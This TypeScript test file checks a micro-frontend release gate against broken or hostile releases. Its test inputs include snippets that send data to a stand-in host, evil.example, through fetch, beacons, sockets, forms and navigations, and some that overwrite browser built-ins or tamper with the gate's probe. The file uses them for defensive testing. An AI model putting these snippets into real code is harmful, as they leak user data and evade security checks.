import http from 'node:http';
import { ROUNDS } from '@platform/gate';
import { GateFixture, listen, remote } from './testing/gate-fixture';

const shop = GateFixture.install();

it('the gate refuses a covered page', async () => {
  const code = `const cover = node.appendChild(document.createElement('div')); cover.className = 'cover'`;
  const css = '[data-remote="catalog"] .cover{position:fixed;inset:0;background:#fff}';
  expect(await shop.judge(remote(`self.mfe_page = (node) => { ${code} };`, css))).toEqual({
    // On a busy machine some visits end earlier.
    browser: expect.stringMatching(/^\/home( \(.+\))?: the page is covered by div\.cover$/),
  });
});

it('the gate refuses a second copy of a singleton', async () => {
  const bad =
    'self.mfe_page = () => { self.__FEDERATION__ = { __SHARE__: { a: { default: { react: { "19.3.1": { from: "shell", loaded: true }, "19.4.0": { from: "catalog", loaded: true } } } } } }; }';
  expect(await shop.judge(remote(bad))).toEqual({ browser: expect.stringMatching(/a second copy of react/) });
});

it('the gate refuses a release that fails for signed-in shoppers only, and one that fails in one language only', async () => {
  const onlyForMembers = `self.mfe_page = () => self.user().then(({ data }) => { if (data) throw new Error('for ' + data.nickname); })`;
  expect(await shop.judge(remote(onlyForMembers), await shop.strictStep())).toEqual({
    browser: expect.stringMatching(/^\/home \(signed in\): error: for Ann of the gate at remoteEntry\.js:1:\d+$/),
  });
  const onlyInEnglish = `self.mfe_page = () => { if (localStorage.getItem('language') === 'en') throw new Error('boom'); }`;
  expect(await shop.judge(remote(onlyInEnglish), shop.step({ rounds: ROUNDS }))).toEqual({
    browser: '/home (en): an error card',
  });
});

it('the gate refuses a page that is not ready, moves its content, or is not accessible', async () => {
  const bad = `
    self.mfe_page = (node) => {
      const button = node.appendChild(document.createElement('button'));
      const late = node.appendChild(document.createElement('p'));
      late.id = 'moved';
      late.textContent = 'This line moves. '.repeat(200);
      node.ariaBusy = 'true';
      node.append(Object.assign(document.createElement('p'), { ariaBusy: 'true' }));
      setTimeout(() => { button.className = 'tall'; }, 200);
    }`;
  expect(await shop.judge(remote(bad, '[data-remote="catalog"] .tall{display:block;height:300px}'))).toEqual({
    ready: expect.stringContaining('/home (answers as they are): not ready after 1.5 s'),
    'layout-shift': expect.stringMatching(/content moved by 0\.\d+: .*p#moved/),
    accessibility: '/home (answers as they are): button-name at button',
  });
});

it('the gate refuses a page whose script never ends, and itself ends', async () => {
  const step = shop.step({ visitMs: 5_000 });
  expect(await shop.judge(remote('self.mfe_page = () => { for (;;); }'), step)).toEqual({
    ready: expect.stringContaining('the visit did not end within 5 s'),
  });
});

/** Ways to reach an object of the document without its name. */
const tricks = [
  ['((set) => set(self))(function (all) { all.fetch = () => {}; })', 'fetch'],
  ['(function () { return this; })().alert = () => {}', 'alert'],
  ['node.ownerDocument.defaultView.confirm = () => {}', 'confirm'],
  ['Reflect.apply(Object.assign, Object, [self, { btoa() {} }])', 'btoa'],
  ['Reflect.set.call(null, self, "atob", () => {})', 'atob'],
  ['node.onclick = ({ view }) => { view.prompt = () => {}; }; node.click()', 'prompt'],
  ['node.ownerDocument.defaultView["st" + "op"] = () => {}', 'stop'],
  ['Object.getPrototypeOf(new Headers())["g" + "et"] = () => {}', 'Headers.prototype.get'],
  ['node.ownerDocument.defaultView.navigator.sendBeacon = () => true', 'navigator.sendBeacon'],
  [
    'Array.from([self], (all) => Object.defineProperty(all.Date.prototype, Symbol.toPrimitive, { value() {} }))',
    'Date.prototype.Symbol(Symbol.toPrimitive)',
  ],
  ['Array.from([self], (all) => { all.MessagePort.prototype.close = () => {}; })', 'MessagePort.prototype.close'],
  ['Array.from([self], (all) => { all.trustedTypes.createPolicy = () => {}; })', 'trustedTypes.createPolicy'],
];

it('the gate refuses replaced built-ins that the release reaches without their names', async () => {
  const code = tricks.map(([trick]) => `${trick};`).join('\n');
  const { isolation } = (await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>;
  for (const [, name] of tricks) expect(isolation).toContain(`it changes ${name}`);
});

it('the gate refuses a release that hides its replacements from the probe', async () => {
  const code = `const all = self;
    const probe = all[Symbol.for('release.gate')];
    try { probe.report = () => ({}); } catch {}
    const { getOwnPropertyNames, getOwnPropertyDescriptor } = Object;
    Object.assign(Object, { getOwnPropertyNames: () => [], getOwnPropertyDescriptor: () => undefined });
    all.fetch = () => {};`;
  const found = (await shop.judge(remote(`self.mfe_page = () => { ${code} }`))) as Record<string, string>;
  expect(found.isolation).toContain('it changes fetch');
});

const faultsOf = async (code: string) =>
  ((await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>).browser;

it.each([
  [
    'requests',
    `new Image().src = 'https://evil.example/a';
    fetch('https://evil.example/b').catch(() => {});
    node.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/c' }));`,
    ['img-src', 'connect-src', 'frame-src'].map((directive) => `policy: ${directive} https://evil.example`),
  ],
  [
    'forms, sockets and beacons',
    `navigator.sendBeacon('https://evil.example/d', 'x');
    try { new WebSocket('wss://evil.example/e'); } catch {}
    const form = node.appendChild(document.createElement('form'));
    form.action = 'https://evil.example/f';
    form.submit();`,
    ['connect-src https://evil', 'connect-src wss://evil', 'form-action https://evil'].map((what) => `policy: ${what}`),
  ],
  [
    'hints to the browser, which no policy blocks,',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://evil.example' }));
    node.append(Object.assign(document.createElement('a'), { href: '/x', ping: 'https://evil.example/g', textContent: 'a' }));`,
    ['names another origin: <link rel="preconnect">', 'names another origin: <a ping>'],
  ],
])('the gate refuses %s to another origin', async (_, code, expected) => {
  const found = await faultsOf(code);
  for (const fault of expected) expect(found).toContain(fault);
});

it('the gate refuses navigations and windows to another origin, which no policy blocks', async () => {
  expect(await faultsOf(`location.href = 'https://evil.example/?' + localStorage.language;`)).toContain(
    'asks another origin (document): https://evil.example',
  );
  const asked = jest.fn();
  const foreign = http.createServer((request, response) => {
    asked(request.url);
    response.end();
  });
  const address = await listen(foreign);
  const origin = new RegExp(`asks another origin \\(document\\): ${address}`);
  expect(await faultsOf(`location.href = '${address}/metrics';`)).toMatch(origin);
  expect(await faultsOf(`window.open('${address}/metrics');`)).toMatch(origin);
  foreign.closeAllConnections();
  foreign.close();
  expect(asked).not.toHaveBeenCalled();
  expect(await faultsOf(`window.open('https://evil.example/?' + localStorage.language);`)).toMatch(
    /(asks|opens a window of) another origin/,
  );
});

it('the gate lets a page show pictures of an origin that the running shop allows', async () => {
  shop.policy =
    "default-src 'none'; img-src 'self' https://pictures.example; media-src 'self' https://pictures.example";
  try {
    const page = 'self.mfe_page = () => { new Image().src = "https://pictures.example/a.webp"; }';
    // The host of the example does not exist, which the browser logs.
    const { browser } = (await shop.judge(remote(page))) as Record<string, string>;
    expect(browser).toMatch(/console: Failed to load resource/);
    expect(browser).not.toMatch(/policy|origin/);
  } finally {
    shop.policy = '';
  }
});
